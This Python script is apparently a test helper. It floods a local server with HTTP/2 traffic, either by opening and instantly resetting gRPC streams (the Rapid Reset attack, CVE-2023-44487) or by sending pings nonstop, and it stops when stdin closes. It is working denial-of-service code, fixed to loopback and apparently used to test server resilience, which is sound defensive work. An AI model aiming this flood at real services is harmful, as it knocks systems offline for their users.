"""A client that abuses HTTP/2, in a process of its own, until its standard input ends.

reset
    opens calls and resets them at once, as fast as the server reads (CVE-2023-44487);
ping
    sends pings as fast as the server reads.

On stdout it says, several times a second, how much it has done. Where the server closes the
connection it comes back.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import sys
import threading
import time

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.exceptions import H2Error

HEADERS = (
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/grpc.health.v1.Health/Check"),
    (":authority", "flood"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
)
BURST = 50
TELL_INTERVAL_S = 0.1


class Flood:
    """One connection after the other, and what was done on them."""

    def __init__(self, port: int, kind: str) -> None:
        self._port = port
        self._abuse = {"reset": _reset, "ping": _ping}[kind]
        self.done = 0
        self.connection_count = 0

    def run(self, ended: threading.Event) -> None:
        """Flood until told to end."""
        while not ended.is_set():
            with (
                contextlib.suppress(OSError, H2Error),
                socket.create_connection(("127.0.0.1", self._port), timeout=5) as connection,
            ):
                self.connection_count += 1
                self._run_connection(connection, ended)

    def _run_connection(self, connection: socket.socket, ended: threading.Event) -> None:
        state = H2Connection(config=H2Configuration(client_side=True))
        state.initiate_connection()
        told_s = 0.0
        while not ended.is_set():
            for _ in range(BURST):
                self._abuse(state)
            connection.settimeout(5)
            connection.sendall(state.data_to_send())
            self.done += BURST
            if time.monotonic() - told_s > TELL_INTERVAL_S:
                told_s = time.monotonic()
                sys.stdout.write(f"{self.done} {self.connection_count}\n")
                sys.stdout.flush()
            connection.settimeout(0.0001)
            with contextlib.suppress(TimeoutError):
                received = connection.recv(1 << 16)
                if not received:
                    return
                state.receive_data(received)


def _reset(state: H2Connection) -> None:
    stream = state.get_next_available_stream_id()
    state.send_headers(stream, HEADERS)
    state.reset_stream(stream)


def _ping(state: H2Connection) -> None:
    state.ping(b"tonnetst")


def main() -> None:
    """Flood until standard input ends."""
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("kind", choices=["reset", "ping"])
    options = parser.parse_args()
    ended = threading.Event()

    def wait_for_end() -> None:
        sys.stdin.read()
        ended.set()

    threading.Thread(target=wait_for_end, daemon=True).start()
    Flood(options.port, options.kind).run(ended)


if __name__ == "__main__":
    main()
